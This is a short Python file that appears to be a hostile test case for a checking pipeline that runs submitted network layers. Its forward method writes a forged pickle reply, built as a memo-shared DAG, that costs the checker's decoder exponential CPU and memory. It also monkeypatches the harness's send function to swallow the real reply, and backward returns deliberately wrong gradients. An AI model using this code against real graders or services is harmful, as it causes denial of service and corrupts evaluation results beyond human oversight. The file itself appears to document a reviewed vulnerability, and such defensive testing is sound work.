"""Hostile (found in review of the pipe format, issue 23): A 209-byte forged reply ("ok", L22) where L[i] = [L[i-1], L[i-1]] through the pickle memo (MEMOIZE/BINGET): it
unpickles at once, but the checker's _decode walks (and copies) every path, 2**22 of them: seconds of CPU and
hundreds of MB per reply, doubling with each further level (L40: weeks, terabytes), all outside any deadline. The
worker's own reply is swallowed (serve() looks send up in __main__) so every later request is answered in step, and
every forward repeats the attack. Backward is wrong."""
import os, struct, sys
import numpy as np

LEVELS = 22

def dag(n):
    body = b"\x80\x05(" + b"\x8c\x02ok" + b"]\x94" + b"0"  # memo 0: [] (popped)
    for i in range(1, n + 1):  # memo i: [L(i-1), L(i-1)]
        body += b"](" + b"h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"e\x94" + (b"0" if i < n else b"")
    return body + b"t."

class Layer:
    array_kind = "numpy"
    def __init__(self):
        self.params = {}
        self.grads = {}
    def forward(self, x):
        self.x = x
        body = dag(LEVELS)
        os.write(int(sys.argv[2]), struct.pack("!QI", len(body), 0) + body)
        main = sys.modules["__main__"]
        real_send = main.send
        def swallow_once(fd, views):
            main.send = real_send
        main.send = swallow_once
        return np.maximum(x, 0)
    def backward(self, dy):
        return -dy * (self.x > 0)
